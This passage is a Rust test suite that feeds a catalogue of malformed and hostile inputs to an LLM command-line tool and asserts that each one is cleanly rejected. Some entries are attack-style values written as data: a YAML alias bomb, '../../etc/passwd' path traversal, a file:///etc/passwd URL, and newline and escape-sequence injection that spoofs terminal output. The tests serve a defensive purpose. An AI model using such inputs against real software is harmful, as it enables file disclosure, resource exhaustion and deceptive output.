//! The bad-input catalogue: hundreds of hostile or broken inputs, one table entry each,
//! run through the real binary. Every entry asserts the same things:
//! - the exit status it names (2 for usage errors, 1 for failures, 0 when a warning is
//!   enough);
//! - exactly one line on stderr, naming what is wrong (headless input: one per bad
//!   line, and the good lines after it still run). Progress lines do not count (macro
//!   steps, tool calls, a knowledge-base build's plain progress); entries that need a
//!   terminal (themes) run under `script` and count the `warning:`/`error:` lines shown;
//! - no panic;
//! - bounded time (20 s) and memory (the run has 4 GiB of address space);
//! - every file under the config dir byte-identical afterwards, unless the entry is
//!   about writing one.
//!
//! Entries are grouped by where the input comes from; each group is one test (they run
//! in parallel), and a group reports all its failures at once.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

use crate::common::fake_llm::{FakeLlm, Frame, Reply, anthropic, gemini, openai};
use crate::common::{LOKI, default_config};

/// What one entry expects.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Outcome {
    /// Exit status; one stderr line containing the text.
    Fails(i32, &'static str),
    /// Exit 0 with one `warning:` line containing the text.
    Warns(&'static str),
    /// Headless input: the exit status, and one stderr line per bad input line, each
    /// containing the text (the good lines after them still run).
    Lines(i32, usize, &'static str),
}

struct Case {
    name: String,
    /// Files to write before the run, relative to the case's root (`config/…`, `work/…`).
    files: Vec<(String, Vec<u8>)>,
    /// Paths (relative to the root) to make before the run: directories, FIFOs, links.
    special: Vec<(String, Special)>,
    env: Vec<(String, String)>,
    args: Vec<String>,
    stdin: Vec<u8>,
    /// The fake provider's answer to every request of this run.
    reply: Option<Reply>,
    outcome: Outcome,
    /// The entry is about writing under the config dir: its files may change.
    writes: bool,
    /// Run on a pseudo-terminal (through `script`), for what only a terminal loads
    /// (themes); stdout and stderr then arrive together, and only `warning:` and
    /// `error:` lines count.
    tty: bool,
}

#[derive(Clone)]
enum Special {
    Dir,
    Fifo,
    Link(String),
}

impl Case {
    fn new(name: impl Into<String>, args: &[&str], outcome: Outcome) -> Self {
        Self {
            name: name.into(),
            files: Vec::new(),
            special: Vec::new(),
            env: Vec::new(),
            args: args.iter().map(ToString::to_string).collect(),
            stdin: Vec::new(),
            reply: None,
            outcome,
            writes: false,
            tty: false,
        }
    }
    fn file(mut self, rel: &str, contents: impl AsRef<[u8]>) -> Self {
        self.files
            .push((rel.to_string(), contents.as_ref().to_vec()));
        self
    }
    fn special(mut self, rel: &str, kind: Special) -> Self {
        self.special.push((rel.to_string(), kind));
        self
    }
    fn env(mut self, key: &str, value: &str) -> Self {
        self.env.push((key.to_string(), value.to_string()));
        self
    }
    fn stdin(mut self, bytes: impl AsRef<[u8]>) -> Self {
        self.stdin = bytes.as_ref().to_vec();
        self
    }
    fn reply(mut self, reply: Reply) -> Self {
        self.reply = Some(reply);
        self
    }
    fn writes(mut self) -> Self {
        self.writes = true;
        self
    }
    fn tty(mut self) -> Self {
        self.tty = true;
        self
    }
}

/// A config dir set up once (first-run assets installed), copied for every entry.
struct Bench {
    template: tempfile::TempDir,
    server: FakeLlm,
}

fn copy_tree(from: &Path, to: &Path) {
    for entry in walkdir::WalkDir::new(from) {
        let entry = entry.expect("walk");
        let rel = entry.path().strip_prefix(from).expect("prefix");
        let target = to.join(rel);
        let kind = entry.file_type();
        if kind.is_dir() {
            std::fs::create_dir_all(&target).expect("mkdir");
        } else if kind.is_symlink() {
            let link = std::fs::read_link(entry.path()).expect("readlink");
            std::os::unix::fs::symlink(link, &target).expect("symlink");
        } else {
            std::fs::copy(entry.path(), &target).expect("copy");
            let mode = std::fs::metadata(entry.path()).expect("stat").permissions();
            std::fs::set_permissions(&target, mode).expect("chmod");
        }
    }
}

/// Every file under `dir` with its bytes (links as their targets).
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut files = BTreeMap::new();
    for entry in walkdir::WalkDir::new(dir).into_iter().flatten() {
        let rel = entry
            .path()
            .strip_prefix(dir)
            .expect("prefix")
            .to_path_buf();
        let kind = entry.file_type();
        if kind.is_symlink() {
            let target = std::fs::read_link(entry.path()).unwrap_or_default();
            files.insert(rel, target.display().to_string().into_bytes());
        } else if kind.is_file() {
            files.insert(rel, std::fs::read(entry.path()).unwrap_or_default());
        } else if !kind.is_dir() {
            files.insert(rel, b"(special)".to_vec());
        }
    }
    files
}

impl Bench {
    fn new(config: impl FnOnce(&str) -> String) -> Self {
        let template = tempfile::tempdir().expect("tempdir");
        for dir in ["config", "work", "home"] {
            std::fs::create_dir_all(template.path().join(dir)).expect("mkdir");
        }
        let server = FakeLlm::start();
        let text = config(&server.base_url());
        std::fs::write(template.path().join("config/config.yaml"), text).expect("config");
        let bench = Self { template, server };
        // The first run installs the built-in roles, macros, agents and tools (and keeps
        // no history, so the cases start without a sessions directory).
        bench.server.set_default(openai::text_stream(&["ok"]));
        let quiet = [("LOKI_HISTORY".to_string(), "false".to_string())];
        let out = bench
            .command(bench.template.path(), &["hi".to_string()], &quiet)
            .output()
            .expect("first run");
        assert!(out.status.success(), "{out:?}");
        bench
    }

    fn command(
        &self,
        root: &Path,
        args: &[String],
        env: &[(String, String)],
    ) -> std::process::Command {
        self.command_of(LOKI, root, args, env)
    }

    fn command_of(
        &self,
        program: &str,
        root: &Path,
        args: &[String],
        env: &[(String, String)],
    ) -> std::process::Command {
        let mut cmd = std::process::Command::new("/bin/sh");
        // 4 GiB of address space: an input that makes loki allocate without bound fails
        // the entry instead of the machine.
        cmd.arg("-c")
            .arg("ulimit -v 4194304; exec \"$0\" \"$@\"")
            .arg(program)
            .args(args)
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .env("HOME", root.join("home"))
            .env("LOKI_CONFIG_DIR", root.join("config"))
            .env("XDG_CACHE_HOME", root.join("cache"))
            .env("OLLAMA_API_BASE", "http://127.0.0.1:9/v1")
            .env("LLAMACPP_API_BASE", "http://127.0.0.1:9/v1")
            .current_dir(root.join("work"));
        for (k, v) in env {
            cmd.env(k, v);
        }
        cmd
    }

    /// Runs one entry; a description of what went wrong, if anything did.
    fn run(&self, case: &Case) -> Option<String> {
        let root = tempfile::tempdir().expect("tempdir");
        copy_tree(self.template.path(), root.path());
        let base = self.server.base_url();
        for (rel, bytes) in &case.files {
            let path = root.path().join(rel);
            std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
            let bytes = String::from_utf8(bytes.clone())
                .map(|s| s.replace("{BASE}", &base).into_bytes())
                .unwrap_or_else(std::string::FromUtf8Error::into_bytes);
            std::fs::write(&path, bytes).expect("write");
            if rel.ends_with("/pass") {
                // A password file as it should be kept (0600), so it draws no warning.
                use std::os::unix::fs::PermissionsExt;
                std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o600))
                    .expect("chmod");
            }
        }
        for (rel, kind) in &case.special {
            let path = root.path().join(rel);
            std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
            let _ = std::fs::remove_file(&path);
            match kind {
                Special::Dir => std::fs::create_dir_all(&path).expect("mkdir"),
                Special::Fifo => {
                    let ok = std::process::Command::new("mkfifo")
                        .arg(&path)
                        .status()
                        .expect("mkfifo")
                        .success();
                    assert!(ok, "mkfifo");
                }
                Special::Link(target) => {
                    std::os::unix::fs::symlink(target, &path).expect("symlink");
                }
            }
        }
        let config_dir = root.path().join("config");
        let before = snapshot(&config_dir);
        self.server.set_default(
            case.reply
                .clone()
                .unwrap_or_else(|| openai::text_stream(&["ok"])),
        );
        let args: Vec<String> = case
            .args
            .iter()
            .map(|a| a.replace("{BASE}", &base))
            .collect();
        let mut cmd = if case.tty {
            // `script` gives loki a terminal; the run is `loki ARGS` as a shell line.
            let line = std::iter::once(LOKI.to_string())
                .chain(
                    args.iter()
                        .map(|a| format!("'{}'", a.replace('\'', "'\\''"))),
                )
                .collect::<Vec<_>>()
                .join(" ");
            let mut env = case.env.clone();
            env.push(("TERM".into(), "xterm-256color".into()));
            env.push(("COLORTERM".into(), "truecolor".into()));
            let script = ["-qefc".to_string(), line, "/dev/null".to_string()];
            self.command_of("script", root.path(), &script, &env)
        } else {
            self.command(root.path(), &args, &case.env)
        };
        let output = assert_cmd::Command::from_std(std::mem::replace(
            &mut cmd,
            std::process::Command::new("true"),
        ))
        .write_stdin(case.stdin.clone())
        .timeout(Duration::from_secs(20))
        .output();
        let output = match output {
            Ok(output) => output,
            Err(e) => return Some(format!("did not run: {e}")),
        };
        let code = output.status.code();
        let stderr = if case.tty {
            // What the terminal showed, without loki's styling: the messages in it.
            strip_ansi(&String::from_utf8_lossy(&output.stdout))
                .lines()
                .map(str::trim)
                .filter(|l| {
                    l.starts_with("warning:") || l.starts_with("error:") || l.contains("panicked")
                })
                .collect::<Vec<_>>()
                .join("\n")
        } else {
            String::from_utf8_lossy(&output.stderr).into_owned()
        };
        let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
        let lines: Vec<&str> = stderr
            .lines()
            .filter(|l| !l.trim().is_empty() && !is_progress(l))
            .collect();
        let mut problems = Vec::new();
        if code.is_none() {
            problems.push("killed (timeout or signal)".to_string());
        }
        if stderr.contains("panicked") || code == Some(101) {
            problems.push("panicked".into());
        }
        match case.outcome {
            Outcome::Fails(want, says) => {
                if code != Some(want) {
                    problems.push(format!("exit {code:?}, want {want}"));
                }
                if lines.len() != 1 {
                    problems.push(format!("{} stderr lines", lines.len()));
                } else if !lines[0].contains(says) {
                    problems.push(format!("stderr lacks {says:?}"));
                }
            }
            Outcome::Warns(says) => {
                if code != Some(0) {
                    problems.push(format!("exit {code:?}, want 0"));
                }
                if lines.len() != 1 {
                    problems.push(format!("{} stderr lines", lines.len()));
                } else if !lines[0].starts_with("warning:") || !lines[0].contains(says) {
                    problems.push(format!("stderr is not a warning with {says:?}"));
                }
            }
            Outcome::Lines(want, count, says) => {
                if code != Some(want) {
                    problems.push(format!("exit {code:?}, want {want}"));
                }
                if lines.len() != count {
                    problems.push(format!("{} stderr lines, want {count}", lines.len()));
                }
                if !lines.iter().all(|l| l.contains(says)) {
                    problems.push(format!("a stderr line lacks {says:?}"));
                }
                if !stdout.contains("\"type\":\"turn_finished\"")
                    && count == 1
                    && want == 1
                    && says.starts_with("input line")
                {
                    problems.push("the good line after the bad one did not run".into());
                }
            }
        }
        if !case.writes {
            let after = snapshot(&config_dir);
            // The conversation history (saved by default: autonamed `_/…` sessions and
            // their state) is what a run keeps, not a change to the user's files.
            let history = |k: &std::path::Path| {
                let k = k.to_string_lossy();
                k.starts_with("sessions/by-name/_/") || k.starts_with("sessions/by-id/")
            };
            let changed: Vec<String> = before
                .keys()
                .chain(after.keys())
                .filter(|k| before.get(*k) != after.get(*k) && !history(k))
                .map(|k| k.display().to_string())
                .collect::<std::collections::BTreeSet<_>>()
                .into_iter()
                .collect();
            if !changed.is_empty() {
                problems.push(format!("changed under config/: {changed:?}"));
            }
        }
        (!problems.is_empty()).then(|| {
            format!(
                "{}: {}\n    stderr: {:?}\n    stdout: {:?}",
                case.name,
                problems.join("; "),
                cut(&stderr),
                cut(&stdout)
            )
        })
    }
}

/// Progress lines, which go to stderr by design: a macro's steps (`>> step`), tool calls
/// (`⚙ name args`, `↳ result`) and a knowledge-base build's plain progress when stderr
/// is not a terminal.
fn is_progress(line: &str) -> bool {
    line.starts_with(">> ")
        || line.starts_with("⚙ ")
        || line.trim_start().starts_with("↳ ")
        || (line.starts_with("Load ") && line.ends_with(']'))
        || line.starts_with("✓ Saved RAG")
}

/// `text` without CSI sequences.
fn strip_ansi(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        if c == '\x1b' {
            if chars.next() == Some('[') {
                for c in chars.by_ref() {
                    if c.is_ascii_alphabetic() || c == '~' {
                        break;
                    }
                }
            }
        } else if c != '\r' {
            out.push(c);
        }
    }
    out
}

/// At most 600 characters of `text`, for the report.
fn cut(text: &str) -> String {
    text.chars().take(600).collect()
}

/// Runs every case; fails listing all that went wrong.
fn run_all(bench: &Bench, cases: Vec<Case>) {
    let total = cases.len();
    let failures: Vec<String> = cases.iter().filter_map(|c| bench.run(c)).collect();
    assert!(
        failures.is_empty(),
        "{} of {total} entries failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

fn standard() -> Bench {
    Bench::new(|base| {
        default_config(base).replace("      max_retries: 2\n", "      max_retries: 0\n")
    })
}

use Outcome::{Fails, Lines, Warns};

/// The number of entries in the catalogue, checked by the last test.
const GROUPS: &[fn() -> Vec<Case>] = &[
    config_cases,
    environment_cases,
    flag_cases,
    stdin_cases,
    headless_cases,
    session_cases,
    role_macro_theme_cases,
    vault_rag_cases,
    provider_cases,
    mcp_tool_cases,
];

#[test]
fn the_catalogue_has_at_least_300_entries() {
    let total: usize = GROUPS.iter().map(|g| g().len()).sum();
    eprintln!("bad-input catalogue: {total} entries");
    assert!(total >= 300, "{total} entries");
}

// ---------------------------------------------------------------- config.yaml

fn config_cases() -> Vec<Case> {
    let cfg = "config/config.yaml";
    let good = |extra: &str| {
        format!(
            "{extra}\nmodel: fake:gpt-4o-mini\nclients:\n  - type: openai-compatible\n    name: fake\n    api_base: {{BASE}}\n    api_key: k\n    models:\n      - name: gpt-4o-mini\n"
        )
    };
    let mut cases = vec![];
    let broken: &[(&str, &[u8], &str)] = &[
        ("unclosed quote", b"model: 'fake:gpt\n", "config.yaml"),
        ("unclosed flow list", b"clients: [\n", "config.yaml"),
        ("unclosed flow map", b"clients: {a: 1\n", "config.yaml"),
        ("tab indentation", b"clients:\n\t- type: openai\n", "config.yaml"),
        ("bare scalar document", b"just words\n", "config.yaml"),
        ("a list at the top", b"- a\n- b\n", "config.yaml"),
        ("duplicate key", b"model: a\nmodel: b\n", "config.yaml"),
        ("not UTF-8", b"model: \xff\xfe\n", "config.yaml"),
        ("NUL bytes", b"model: a\0b\n", "config.yaml"),
        ("binary garbage", b"\x7fELF\x02\x01\x01\0\0\0\0\0", "config.yaml"),
        ("deep nesting", &[b'['; 5000], "config.yaml"),
        ("alias bomb", b"model: [&a [x, x, x, x, x, x, x, x, x, x], &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a], &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b], &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c], &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d], &f [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e], &g [*f, *f, *f, *f, *f, *f, *f, *f, *f, *f], &h [*g, *g, *g, *g, *g, *g, *g, *g, *g, *g], &i [*h, *h, *h, *h, *h, *h, *h, *h, *h, *h]]\n", "config.yaml"),
        ("undefined alias", b"model: *nowhere\n", "config.yaml"),
        ("document separator garbage", b"---\n...\n---\n: :\n", "config.yaml"),
    ];
    for (name, bytes, says) in broken {
        cases.push(Case::new(format!("config: {name}"), &["hi"], Fails(1, says)).file(cfg, bytes));
    }
    // 200 levels of block mappings under one unknown key: parsed, warned about, ignored.
    let deep: String = (0..200)
        .map(|i| format!("{}k{i}:\n", " ".repeat(i)))
        .collect::<String>()
        + &" ".repeat(200)
        + "end: 1\n";
    cases.push(
        Case::new(
            "config: deep block nesting",
            &["hi"],
            Warns("unknown key `k0`"),
        )
        .file(cfg, good(&deep)),
    );
    // Keys of the wrong type.
    let typed: &[(&str, &str)] = &[
        ("temperature", "hot"),
        ("temperature", "[1]"),
        ("top_p", "{a: 1}"),
        ("save", "maybe"),
        ("stream", "perhaps"),
        ("highlight", "[]"),
        ("wrap", "{x: 1}"),
        ("keybindings", "[emacs]"),
        ("compression_threshold", "lots"),
        ("max_input_size", "huge"),
        ("function_calling", "sometimes"),
        ("repl_prelude", "[1, 2]"),
        ("clients", "a string"),
        ("clients", "{type: openai}"),
        ("model", "[a, b]"),
        ("model", "{a: b}"),
        ("left_prompt", "[x]"),
        ("save_session", "later"),
        ("rag_top_k", "many"),
        ("rag_chunk_size", "-5"),
        ("mcp_server_support", "yes please"),
        ("editor", "[vi]"),
        ("document_loaders", "[pdf]"),
        ("light_theme", "dim"),
    ];
    for (key, value) in typed {
        let text = format!(
            "{key}: {value}\nclients:\n  - type: openai-compatible\n    name: fake\n    api_base: {{BASE}}\n    api_key: k\n    models:\n      - name: m\n"
        );
        cases.push(
            Case::new(format!("config: {key}: {value}"), &["hi"], Fails(1, key)).file(cfg, text),
        );
    }
    // Clients that cannot work.
    cases.push(
        Case::new("config: client unknown type", &["hi"], Warns("warp-drive"))
            .file(cfg, format!("{}  - type: warp-drive\n", good(""))),
    );
    let clients: &[(&str, &str, &str)] = &[
        ("missing type", "  - name: x\n", "missing `type`"),
        (
            "api_base not a URL",
            "  - type: openai-compatible\n    name: x\n    api_base: not a url\n    api_key: k\n    models: [{name: m}]\n",
            "api_base",
        ),
        (
            "api_base ftp",
            "  - type: openai-compatible\n    name: x\n    api_base: ftp://h/v1\n    api_key: k\n    models: [{name: m}]\n",
            "api_base",
        ),
        (
            "models not a list",
            "  - type: openai-compatible\n    name: x\n    api_base: http://127.0.0.1:9\n    models: m\n",
            "clients[0]",
        ),
        (
            "model of an unknown type",
            "  - type: openai-compatible\n    name: x\n    api_base: http://127.0.0.1:9\n    models: [{name: m, type: hologram}]\n",
            "hologram",
        ),
    ];
    for (name, client, says) in clients {
        cases.push(
            Case::new(format!("config: client {name}"), &["hi"], Fails(1, says))
                .file(cfg, format!("model: x:m\nclients:\n{client}")),
        );
    }
    // A config.yaml that is not a file.
    cases.push(
        Case::new("config: a directory", &["hi"], Fails(1, "config.yaml"))
            .special(cfg, Special::Dir),
    );
    cases.push(
        Case::new("config: a FIFO", &["hi"], Fails(1, "config.yaml")).special(cfg, Special::Fifo),
    );
    cases.push(
        Case::new(
            "config: a link to /dev/zero",
            &["hi"],
            Fails(1, "config.yaml"),
        )
        .special(cfg, Special::Link("/dev/zero".into())),
    );
    cases.push(
        Case::new("config: a dangling link", &["hi"], Fails(1, "config.yaml"))
            .special(cfg, Special::Link("/nowhere/at/all".into())),
    );
    cases.push(
        Case::new("config: 100 MB", &["hi"], Fails(1, "larger than"))
            .file(cfg, vec![b'#'; 100 * 1024 * 1024]),
    );
    // Unknown and misspelt keys only warn.
    for key in ["modle", "temprature", "clinets_extra", "savee"] {
        cases.push(
            Case::new(format!("config: unknown key {key}"), &["hi"], Warns(key))
                .file(cfg, good(&format!("{key}: 1"))),
        );
    }
    // The model the config names does not exist.
    cases.push(
        Case::new("config: unknown default model", &["hi"], Fails(1, "nope")).file(
            cfg,
            good("").replace("model: fake:gpt-4o-mini", "model: nope:x"),
        ),
    );
    cases.push(
        Case::new(
            "config: placeholder with no secret",
            &["hi"],
            Fails(1, "NO_SUCH_SECRET"),
        )
        .file(
            cfg,
            good("").replace("api_key: k", "api_key: '{{NO_SUCH_SECRET}}'"),
        ),
    );
    cases
}

#[test]
fn config_files() {
    run_all(&standard(), config_cases());
}

// ---------------------------------------------------------------- environment

fn environment_cases() -> Vec<Case> {
    let mut cases = vec![];
    let bad: &[(&str, &str, &str)] = &[
        ("LOKI_WRAP", "abc", "LOKI_WRAP"),
        ("LOKI_TEMPERATURE", "hot", "LOKI_TEMPERATURE"),
        ("LOKI_TEMPERATURE", "1e999x", "LOKI_TEMPERATURE"),
        ("LOKI_TOP_P", "high", "LOKI_TOP_P"),
        ("LOKI_SAVE", "maybe", "LOKI_SAVE"),
        ("LOKI_STREAM", "2", "LOKI_STREAM"),
        ("LOKI_HIGHLIGHT", "colourful", "LOKI_HIGHLIGHT"),
        (
            "LOKI_COMPRESSION_THRESHOLD",
            "-1",
            "LOKI_COMPRESSION_THRESHOLD",
        ),
        (
            "LOKI_COMPRESSION_THRESHOLD",
            "lots",
            "LOKI_COMPRESSION_THRESHOLD",
        ),
        ("LOKI_MAX_INPUT_SIZE", "huge", "LOKI_MAX_INPUT_SIZE"),
        ("LOKI_RAG_TOP_K", "many", "LOKI_RAG_TOP_K"),
        ("LOKI_RAG_CHUNK_SIZE", "big", "LOKI_RAG_CHUNK_SIZE"),
        ("LOKI_SAVE_SESSION", "later", "LOKI_SAVE_SESSION"),
        (
            "LOKI_MCP_SERVER_SUPPORT",
            "yes please",
            "LOKI_MCP_SERVER_SUPPORT",
        ),
        ("LOKI_LIGHT_THEME", "dim", "LOKI_LIGHT_THEME"),
        ("LOKI_KEYBINDINGS", "emacsish", "LOKI_KEYBINDINGS"),
        ("LOKI_WRAP_CODE", "sure", "LOKI_WRAP_CODE"),
        ("LOKI_THEME", "nope", "LOKI_THEME"),
        ("LOKI_MAX_TOOL_ROUNDS", "-3", "LOKI_MAX_TOOL_ROUNDS"),
    ];
    for (key, value, says) in bad {
        cases.push(
            Case::new(format!("env: {key}={value}"), &["hi"], Fails(1, says)).env(key, value),
        );
    }
    cases.push(
        Case::new("env: LOKI_MODEL unknown", &["hi"], Fails(1, "nope:x"))
            .env("LOKI_MODEL", "nope:x"),
    );
    cases.push(
        Case::new("env: LOKI_MODEL with a newline", &["hi"], Fails(1, "\\n"))
            .env("LOKI_MODEL", "fake:gpt\nerror: spoofed"),
    );
    cases.push(
        Case::new(
            "env: LOKI_MODEL with an escape",
            &["hi"],
            Fails(1, "fake:\\u{1b}"),
        )
        .env("LOKI_MODEL", "fake:\x1b[2Jx"),
    );
    cases.push(
        Case::new(
            "env: LOKI_CONFIG_DIR is a file",
            &["hi"],
            Fails(1, "/etc/hostname"),
        )
        .env("LOKI_CONFIG_DIR", "/etc/hostname"),
    );
    cases.push(
        Case::new("env: NO_COLOR with a prompt", &["hi"], Fails(1, "401"))
            .env("NO_COLOR", "1")
            .reply(openai::error(
                401,
                "Incorrect API key provided",
                "invalid_request_error",
            )),
    );
    cases.push(
        Case::new("env: FAKE_API_KEY empty", &["hi"], Fails(1, "401"))
            .env("FAKE_API_KEY", "")
            .reply(openai::error(401, "no key", "invalid_request_error")),
    );
    cases.push(
        Case::new(
            "env: LOKI_VAULT_PASSWORD_FILE missing",
            &["--add-secret", "X"],
            Fails(1, "does not exist"),
        )
        .env("LOKI_VAULT_PASSWORD_FILE", "/nowhere/pass")
        .stdin("v"),
    );
    cases.push(
        Case::new(
            "env: LOKI_VAULT_PASSWORD_FILE a directory",
            &["--add-secret", "X"],
            Fails(1, "/tmp"),
        )
        .env("LOKI_VAULT_PASSWORD_FILE", "/tmp")
        .stdin("v"),
    );
    cases
}

#[test]
fn environment() {
    run_all(&standard(), environment_cases());
}

// ---------------------------------------------------------------- flags

fn flag_cases() -> Vec<Case> {
    let usage: &[(&[&str], &str)] = &[
        (&["--no-such-flag"], "--no-such-flag"),
        (&["-Z"], "-Z"),
        (&["--model"], "--model"),
        (&["--role"], "--role"),
        (&["--output-format", "xml", "hi"], "xml"),
        (&["--input-format", "csv"], "csv"),
        (&["--output-format", "json", "--dry-run", "hi"], "--dry-run"),
        (&["--output-format", "stream-json", "-c", "hi"], "-c"),
        (
            &[
                "--input-format",
                "stream-json",
                "--output-format",
                "stream-json",
                "hi",
            ],
            "prompt",
        ),
        (&["--list-models=everything"], "everything"),
        (&["--run-tool"], "--run-tool"),
        (&["--max-tool-rounds", "many", "hi"], "--max-tool-rounds"),
        (&["--rebuild-rag"], "--rag"),
        (&["--agent-variable", "user", "Bob", "hi"], "--agent"),
        (&["--macro", "no-such-macro"], "no-such-macro"),
        (&["--list-roles", "--list-roles"], "--list-roles"),
        (&["--completions", "tcsh"], "tcsh"),
        (&["--session", "--no-such", "hi"], "--no-such"),
    ];
    let mut cases: Vec<Case> = usage
        .iter()
        .map(|(args, says)| Case::new(format!("flags: {}", args.join(" ")), args, Fails(2, says)))
        .collect();
    let failing: &[(&[&str], &str)] = &[
        (&["-m", "nope:x", "hi"], "nope:x"),
        (&["-m", "", "hi"], "model"),
        (&["-m", "fake:", "hi"], "fake:"),
        (&["-m", ":gpt", "hi"], ":gpt"),
        (&["-m", "fake:gpt\nerror: fake line", "hi"], "\\n"),
        (&["-m", "fake:\u{202e}evil", "hi"], "fake:"),
        (&["-m", "fake:zero\u{200b}width", "hi"], "fake:"),
        (&["-r", "no-such-role", "hi"], "no-such-role"),
        (&["-r", "../../etc/passwd", "hi"], "role"),
        (&["-r", "a/b", "hi"], "role"),
        (&["-r", "", "hi"], "role"),
        (&["-s", "../escape", "hi"], "session"),
        (&["-s", "a/b", "hi"], "session"),
        (&["-s", "line\nbreak", "hi"], "session"),
        (&["-s", ".hidden", "hi"], "session"),
        (&["-a", "no-such-agent", "hi"], "no-such-agent"),
        (&["-a", "../x", "hi"], "agent"),
        (&["--rag", "no-such-rag", "hi"], "no-such-rag"),
        (&["--rag", "../x", "hi"], "RAG"),
        (&["-f", "missing.txt", "hi"], "missing.txt"),
        (&["-f", "/dev/zero", "hi"], "/dev/zero"),
        (&["-f", "https://127.0.0.1:9/x", "hi"], "127.0.0.1:9"),
        (&["-f", "ftp://example/x", "hi"], "ftp"),
        (&["--run-tool", "no_such_tool", "{}"], "no_such_tool"),
        (&["--run-tool", "fs_ls", "{not json"], "JSON"),
        (&["--run-tool", "fs_ls", "[1,2]"], "fs_ls"),
        (&["--run-tool", "fs_cat", "{\"path\": 5}"], "path"),
        (&["--info", "-r", "no-such-role"], "no-such-role"),
        (&["--info", "-s", "no-such-session"], "no-such-session"),
        (&["--info", "-a", "no-such-agent"], "no-such-agent"),
        (&["--info", "-m", "nosuch:model"], "nosuch"),
        (&["--get-secret", "NO_SUCH"], "vault"),
        (&["--rag", "x", "--rag-docs", "missing-dir"], "missing-dir"),
        (
            &["-a", "demo-missing", "--agent-variable", "x"],
            "--agent-variable",
        ),
        (&["--list-sessions", "-a", "no-such-agent"], "no-such-agent"),
        (&["--sync-models", "--no-such"], "--no-such"),
    ];
    for (args, says) in failing {
        let code = if args
            .iter()
            .any(|a| a.starts_with("--no-such") || *a == "--agent-variable")
        {
            2
        } else {
            1
        };
        cases.push(Case::new(
            format!("flags: {}", args.join(" ")),
            args,
            Fails(code, says),
        ));
    }
    cases.push(Case::new(
        "flags: -f a directory with no text",
        &["-f", ".", "hi"],
        Warns("nothing attached"),
    ));
    cases
}

#[test]
fn flags() {
    run_all(&standard(), flag_cases());
}

// ---------------------------------------------------------------- stdin

fn stdin_cases() -> Vec<Case> {
    let mut cases = vec![
        Case::new("stdin: not UTF-8", &["summarise"], Warns("not UTF-8"))
            .stdin(b"abc \xff\xfe def"),
        Case::new(
            "stdin: larger than max_input_size",
            &["summarise"],
            Fails(1, "max_input_size"),
        )
        .env("LOKI_MAX_INPUT_SIZE", "1000")
        .stdin(vec![b'a'; 5000]),
        Case::new("stdin: only a BOM", &[], Fails(1, "no input")).stdin(b"\xef\xbb\xbf"),
        Case::new("stdin: NUL bytes", &["what is this"], Fails(1, "401"))
            .stdin(b"a\0b\0c")
            .reply(openai::error(401, "bad key", "invalid_request_error")),
        Case::new(
            "stdin: -e with a pipe and an empty answer",
            &["-e", "list files"],
            Fails(1, "command"),
        )
        .reply(openai::text_stream(&[""])),
    ];
    for (name, bytes) in [
        ("lone surrogate", &b"\xed\xa0\x80"[..]),
        ("overlong encoding", b"\xc0\xaf"),
        ("truncated sequence", b"abc\xe2\x82"),
        ("5-byte sequence", b"\xf8\x88\x80\x80\x80"),
    ] {
        cases.push(Case::new(format!("stdin: {name}"), &["x"], Warns("not UTF-8")).stdin(bytes));
    }
    for size in [1001usize, 4096, 1 << 20] {
        cases.push(
            Case::new(
                format!("stdin: {size} bytes over a 1000 limit"),
                &["x"],
                Fails(1, "max_input_size"),
            )
            .env("LOKI_MAX_INPUT_SIZE", "1000")
            .stdin(vec![b'z'; size]),
        );
    }
    cases
}

#[test]
fn stdin() {
    run_all(&standard(), stdin_cases());
}

// ---------------------------------------------------------------- headless lines

fn headless_cases() -> Vec<Case> {
    let args = [
        "--input-format",
        "stream-json",
        "--output-format",
        "stream-json",
    ];
    let good = "{\"type\":\"user\",\"message\":{\"role\":\"user\",\"content\":\"hi\"}}\n";
    let lines: &[(&str, &[u8], &str)] = &[
        ("not JSON", b"hello there\n", "not JSON"),
        ("truncated JSON", b"{\"type\":\"user\"\n", "not JSON"),
        ("a JSON string", b"\"hi\"\n", "input line 1"),
        ("a JSON number", b"42\n", "input line 1"),
        ("a JSON array", b"[1,2]\n", "input line 1"),
        ("null", b"null\n", "input line 1"),
        ("no type", b"{\"message\":{}}\n", "input line 1"),
        ("unknown type", b"{\"type\":\"launch\"}\n", "input line 1"),
        ("type not a string", b"{\"type\":5}\n", "input line 1"),
        ("user without message", b"{\"type\":\"user\"}\n", "input line 1"),
        ("content a number", b"{\"type\":\"user\",\"message\":{\"role\":\"user\",\"content\":5}}\n", "input line 1"),
        ("content parts not objects", b"{\"type\":\"user\",\"message\":{\"role\":\"user\",\"content\":[1,2]}}\n", "input line 1"),
        ("unknown part type", b"{\"type\":\"user\",\"message\":{\"role\":\"user\",\"content\":[{\"type\":\"video\"}]}}\n", "input line 1"),
        ("image with bad base64", b"{\"type\":\"user\",\"message\":{\"role\":\"user\",\"content\":[{\"type\":\"image\",\"source\":{\"type\":\"base64\",\"media_type\":\"image/png\",\"data\":\"!!!\"}}]}}\n", "input line 1"),
        ("image with unknown media type", b"{\"type\":\"user\",\"message\":{\"role\":\"user\",\"content\":[{\"type\":\"image\",\"source\":{\"type\":\"base64\",\"media_type\":\"text/html\",\"data\":\"AAAA\"}}]}}\n", "input line 1"),
        ("image_url a file URL", b"{\"type\":\"user\",\"message\":{\"role\":\"user\",\"content\":[{\"type\":\"image_url\",\"image_url\":{\"url\":\"file:///etc/passwd\"}}]}}\n", "input line 1"),
        ("approval for no call", b"{\"type\":\"approval\",\"call_id\":\"nope\",\"decision\":\"allow\"}\n", "nope"),
        ("approval with a bad decision", b"{\"type\":\"approval\",\"call_id\":\"c\",\"decision\":\"perhaps\"}\n", "input line 1"),
